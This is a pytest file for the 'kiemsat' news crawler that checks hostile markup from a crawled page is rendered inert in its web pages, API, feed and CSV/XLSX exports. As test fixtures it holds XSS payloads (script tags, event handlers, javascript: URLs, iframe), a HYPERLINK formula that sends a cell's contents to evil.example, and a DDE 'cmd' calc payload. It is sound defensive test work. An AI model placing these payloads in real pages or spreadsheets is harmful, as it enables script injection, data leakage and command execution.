"""Hostile content in crawled pages is inert everywhere it is shown.

End to end: a portal page carrying script tags, event-handler attributes,
``javascript:`` links, an iframe, markup in its title and a formula-looking
sentence is crawled (real Scrapy), extracted (``kiemsat extract
--from-store``), indexed (``kiemsat index``), then read back through every
output: the web UI's article and search pages, the JSON API, the stored-source
view, the Atom feed, and the CSV and XLSX exports. Each output is parsed and
checked structurally (no script of ours but the app's own, no ``on*``
attribute, no ``javascript:`` URL, no formula cell), and the hostile title is
shown as text. ``tests/serve`` covers escaping of a hand-made hostile article
(``fixtures.XSS_TITLE``), in the browser too.
"""

from __future__ import annotations

import csv
import io
import json

import lxml.html
import openpyxl
import pytest
from lxml import etree

from kiemsat.settings import Settings
from tests.reliability.conftest import cli_env, crawl_env, run_kiemsat
from tests.reliability.faultportal import FaultPortal
from tests.serve.conftest import make_app

pytestmark = pytest.mark.slow

HOSTILE_TITLE = (
    '<img src=x onerror=alert(1)>Hội nghị <script>alert("t")</script> tổng kết & "đổi mới"'
)
HOSTILE_BODY = """
<script>alert("body")</script>
<p onclick="alert(2)" onmouseover="alert(2)">Đồng chí Lê Minh Tâm, Viện trưởng Viện kiểm sát nhân dân tỉnh Hà Tĩnh phát biểu.</p>
<p>Xem <a href="javascript:alert(3)">tài liệu</a> và <a href=" JaVaScRiPt:alert(33)">phụ lục</a>.</p>
<iframe src="javascript:alert(4)"></iframe>
<p>&lt;b onmouseover=alert(5)&gt;Chữ in đậm&lt;/b&gt; trong bài &lt;script&gt;alert(6)&lt;/script&gt;</p>
<p>=HYPERLINK("http://evil.example/?"&amp;A1,"bấm") Viện kiểm sát đã khởi tố 15 vụ án với 27 bị can.</p>
<p>+cmd|' /C calc'!A0 Trong năm, đơn vị đã giải quyết 1.245/1.300 đơn, đạt 95,8%.</p>
<svg onload="alert(7)"><circle r="1"/></svg>
<style>body{background:url("javascript:alert(8)")}</style>
"""


def assert_inert_html(page: str, where: str) -> lxml.html.HtmlElement:
    """Structure check of one HTML document: only the app's own scripts, no
    event handlers, no javascript: URLs, no frames or plugins."""
    doc = lxml.html.document_fromstring(page)
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        assert tag not in ("iframe", "object", "embed", "frame", "frameset"), (where, tag)
        if tag == "script":
            src = el.get("src") or ""
            assert src.startswith("/static/") and not (el.text or "").strip(), (
                where,
                etree.tostring(el),
            )
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (where, tag, name, value)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href", "style"):
                assert "javascript:" not in value.replace(" ", "").lower(), (
                    where,
                    tag,
                    name,
                    value,
                )
    return doc


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The hostile page crawled, extracted and indexed into a fresh data directory."""
    tmp = tmp_path_factory.mktemp("hostile")
    settings = Settings(data_dir=tmp / "data")
    with FaultPortal(n=4, hostile={1: (HOSTILE_TITLE, HOSTILE_BODY)}) as portal:
        env = cli_env(settings, **crawl_env(portal.write_profile(tmp / "sites")))
        run_kiemsat(["crawl", "faulty", "--no-progress"], env)
    run_kiemsat(["extract", "--from-store"], env)
    run_kiemsat(["index", "--quiet"], env)
    return settings


@pytest.fixture(scope="module")
def client(crawled: Settings):
    app = make_app(crawled)
    yield app.test_client()
    app.extensions["kiemsat"].close()


@pytest.fixture(scope="module")
def hostile_id(client) -> str:
    res = client.get("/api/search?q=tong+ket+doi+moi").get_json()
    ids = [h["id"] for h in res["hits"] if "tổng kết" in (h["title"] or "")]
    assert len(ids) == 1, res
    return ids[0]


def test_extracted_article_keeps_text_not_markup(client, hostile_id):
    art = client.get(f"/api/articles/{hostile_id}").get_json()
    assert art["title"] == HOSTILE_TITLE  # the title's markup is text, kept as written
    assert 'alert("body")' not in art["body"], "script content is not article text"
    assert "Chữ in đậm" in art["body"]
    assert any(m["value"] == 15 for m in art["metrics"]), art["metrics"]


def test_web_article_page_is_inert(client, hostile_id):
    resp = client.get(f"/articles/{hostile_id}")
    assert resp.status_code == 200
    page = resp.get_data(as_text=True)
    doc = assert_inert_html(page, "article page")
    assert HOSTILE_TITLE in doc.text_content(), "the title is shown, as text"
    assert "script-src 'self'" in resp.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "url",
    [
        "/?q=tong+ket",
        "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/figures?subject=vu+an",
        "/people",
        "/units",
    ],
)
def test_web_pages_are_inert(client, url):
    resp = client.get(url)
    assert resp.status_code == 200, url
    assert_inert_html(resp.get_data(as_text=True), url)


def test_source_view_is_plain_text_and_sandboxed(client, hostile_id):
    resp = client.get(f"/api/articles/{hostile_id}/source")
    assert resp.headers["Content-Type"].startswith("text/plain")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in resp.headers["Content-Security-Policy"]
    assert b'<script>alert("body")</script>' in resp.data  # as fetched, but never as HTML


def test_json_api_is_json(client, hostile_id):
    for url in (f"/api/articles/{hostile_id}", "/api/search?q=tong+ket"):
        resp = client.get(url)
        assert resp.mimetype == "application/json"
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(resp.data)


def test_atom_feed_is_inert(client):
    resp = client.get("/feeds/search.atom?q=tong+ket")
    assert resp.status_code == 200
    root = etree.fromstring(resp.data)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        local = etree.QName(el).localname
        assert local not in ("script", "iframe"), "markup smuggled into the feed as elements"
        for name, value in el.attrib.items():
            assert not etree.QName(name).localname.lower().startswith("on")
            assert "javascript:" not in value.lower()
        if local in ("title", "summary", "content"):
            kind = el.get("type", "text")
            if kind in ("html", "xhtml"):  # readers render these: the HTML must be inert
                assert_inert_html(f"<div>{el.text or ''}</div>", f"feed {local}")
            if local == "title":
                titles.append(
                    el.text
                    if kind == "text"
                    else lxml.html.fromstring(f"<div>{el.text}</div>").text_content()
                )
    assert HOSTILE_TITLE in titles, titles
    assert root.find("a:entry", ns) is not None


def test_csv_and_xlsx_exports_have_no_formulas(client, hostile_id):
    resp = client.get(f"/api/metrics?article={hostile_id}&format=csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    assert len(rows) > 1, "the article's figures are exported"
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
    assert any("HYPERLINK" in c for c in cells), "the formula-looking sentence is there, as text"

    resp = client.get(f"/api/metrics?article={hostile_id}&format=xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(resp.data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


@pytest.mark.parametrize(
    "live",
    [
        "<script>alert(1)</script>",
        '<p onclick="x()">a</p>',
        '<a href="javascript:alert(1)">a</a>',
        '<iframe src="/x"></iframe>',
        '<script src="https://evil.example/x.js"></script>',
    ],
)
def test_the_inert_check_catches_live_markup(live):
    """The structural check above can fail: it rejects each kind of live markup."""
    with pytest.raises(AssertionError):
        assert_inert_html(f"<html><body>{live}</body></html>", "self-test")
